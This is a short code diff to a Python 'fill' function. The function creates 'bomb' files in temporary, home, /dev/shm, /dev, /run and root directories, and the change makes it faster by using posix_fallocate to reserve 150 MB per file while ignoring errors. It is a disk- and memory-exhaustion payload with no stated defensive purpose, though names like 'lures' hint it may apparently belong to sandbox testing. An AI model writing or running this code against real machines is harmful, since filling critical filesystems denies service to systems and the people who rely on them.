@@ -5,7 +5,6 @@ megabytes = 500
 
 def fill():
     written = 0
-    piece = b"x" * (1 << 20)
     open_files = []
     for folder in dict.fromkeys((temporary, home, "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/")):
         path = os.path.join(folder, f"bomb-{lures['token']}")
@@ -16,8 +15,9 @@ def fill():
             continue
         open_files.append(file)
         try:
-            for _ in range(150):
-                written += os.write(file, piece)
+            for part in range(15):
+                os.posix_fallocate(file, part * 10 << 20, 10 << 20)
+                written += 10 << 20
         except OSError:
             pass
     time.sleep(1.5)
